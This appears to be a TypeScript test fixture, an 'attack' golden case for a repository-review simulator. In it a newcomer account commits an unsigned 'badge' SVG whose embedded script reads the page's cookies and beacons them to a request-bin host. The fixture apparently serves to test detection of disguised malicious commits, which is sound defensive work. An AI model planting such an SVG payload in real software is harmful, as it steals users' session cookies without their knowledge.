import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { REQUEST_BIN } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A badge that, opened by itself, posts the page's cookies to a request bin.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Add a badge", {
      "assets/badge.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="20">\n  <rect width="90" height="20" fill="#4c1"/>\n  <script type="application/ecmascript"><![CDATA[\n    const kept = document.cookie;\n    navigator.sendBeacon("${REQUEST_BIN}/6f1d", kept);\n  ]]></script>\n</svg>\n`,
    });
  },
};
